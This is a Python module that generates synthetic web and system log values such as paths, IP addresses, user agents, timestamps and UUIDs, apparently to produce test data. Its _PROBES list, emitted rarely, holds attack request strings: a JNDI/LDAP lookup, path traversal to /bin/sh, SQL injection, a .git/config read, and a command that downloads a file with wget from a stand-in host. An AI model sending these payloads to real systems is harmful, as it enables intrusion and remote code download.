"""Values of made-up events that are new in nearly each: URIs, of which one in 500 is a probe, addresses, ids, times."""

from __future__ import annotations

import uuid
from random import Random

WORDS = ("account", "api", "cart", "checkout", "contact", "docs", "download", "feed", "home",
         "images", "item", "login", "news", "orders", "search", "static", "user")  # fmt: skip
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "kube-probe/1.34", "Prometheus/3.7.1", "curl/8.14.1", "Go-http-client/2.0", "python-requests/2.32.5",
)  # fmt: skip
COMMANDS = ("/usr/bin/ls -la", "/usr/sbin/cron -f", "/bin/sh -c date", "/usr/bin/python3 job.py", "/usr/bin/ps aux")
_PROBES = (
    "/?x=${jndi:ldap://198.51.100.7/a}", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/wp-login.php?action=register",
    "/search?q=1%27%20UNION%20SELECT%20null--", "/.git/config", "/shell?cd+/tmp;wget+http://198.51.100.7/x",
)  # fmt: skip


def uri(rng: Random) -> str:
    if rng.random() < 0.002:
        return rng.choice(_PROBES)
    path = "/" + "/".join(rng.choice(WORDS) for _ in range(rng.randint(1, 3)))
    if rng.random() < 0.5:
        path += f"/{rng.getrandbits(24)}"
    if rng.random() < 0.4:
        path += "?" + "&".join(f"{rng.choice(WORDS)}={rng.getrandbits(32):x}" for _ in range(rng.randint(1, 3)))
    return path


def address(rng: Random, *, inside: bool = False) -> str:
    if not inside and rng.random() < 0.1:
        return f"2001:db8:{rng.getrandbits(16):x}::{rng.getrandbits(16):x}"
    network = "10.20" if inside else "198.18"
    return f"{network}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def time_of(number: int) -> str:
    return f"2026-09-21T14:{number // 60000 % 60:02}:{number // 1000 % 60:02}"


def digits(rng: Random, bits: int) -> str:
    """Return a number in hex."""
    return f"{rng.getrandbits(bits):0{bits // 4}x}"


def identity(rng: Random) -> str:
    """Return a UUID."""
    return str(uuid.UUID(int=rng.getrandbits(128)))
